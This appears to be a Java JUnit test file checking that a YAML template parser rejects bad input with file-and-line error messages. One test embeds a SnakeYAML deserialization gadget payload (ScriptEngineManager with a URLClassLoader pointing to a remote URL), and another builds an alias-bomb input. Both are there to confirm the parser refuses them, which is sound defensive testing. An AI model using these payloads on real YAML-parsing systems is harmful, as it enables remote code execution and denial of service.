package dev.strata.engine.gen;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.strata.engine.Backend;
import dev.strata.engine.StrataException;
import java.util.List;
import org.junit.jupiter.api.Test;

class TemplatesTest {
  @Test
  void metalTemplateHasUpstreamsBaseArgs() {
    Template t = Templates.load(Backend.METAL);
    assertEquals(Backend.METAL, t.backend());
    assertEquals(List.of("--spec", "2", "--suffix-draft", "0"), t.args());
  }

  @Test
  void everyBackendWithATemplateLoads() {
    assertEquals(Backend.CPU_REFERENCE, Templates.load(Backend.CPU_REFERENCE).backend());
  }

  private static String refusal(String yaml) {
    StrataException e = assertThrows(StrataException.class, () -> Templates.parse(yaml, "t.yaml"));
    assertEquals(2, e.exitCode());
    return e.getMessage();
  }

  @Test
  void unknownKeyNamesFileAndLine() {
    assertEquals(
        "t.yaml:3: unknown key 'argz' (did you mean args?) (known: template, backend, args, env)",
        refusal("template: strata.template/v1\nbackend: metal\nargz: []\n"));
  }

  @Test
  void duplicateKeyNamesBothLines() {
    String m = refusal("template: strata.template/v1\nbackend: metal\nbackend: pc\n");
    assertEquals(
        "t.yaml:3: duplicate key 'backend' at the top level (first at line 2); keep one", m);
  }

  @Test
  void classInstantiatingTagIsRefused() {
    String m =
        refusal(
            "template: strata.template/v1\nbackend: metal\nargs: !!javax.script.ScriptEngineManager"
                + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
    // SnakeYAML's own guard (global tags) or ours (any non-plain tag): refused, with the line.
    assertTrue(m.startsWith("t.yaml:3: ") && m.contains("ag "), m);
  }

  @Test
  void aliasBombIsRefused() {
    StringBuilder y = new StringBuilder("template: strata.template/v1\nbackend: metal\n");
    y.append("a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n");
    String m = refusal(y.toString());
    assertTrue(m.startsWith("t.yaml"), m);
  }

  @Test
  void generatedFlagsAreNotATemplatesToSet() {
    String m = refusal("template: strata.template/v1\nbackend: metal\nargs: [--ctx, '4']\n");
    assertEquals("t.yaml:3: --ctx is written by the generator, not by a template", m);
  }

  @Test
  void wrongSchemaAndEmptyAndTabsAreRefused() {
    assertTrue(refusal("template: v0\nbackend: metal\n").contains("must be strata.template/v1"));
    assertEquals("t.yaml: is empty", refusal(""));
    assertTrue(refusal("template: strata.template/v1\n\tbackend: metal\n").contains("t.yaml:"));
  }
}
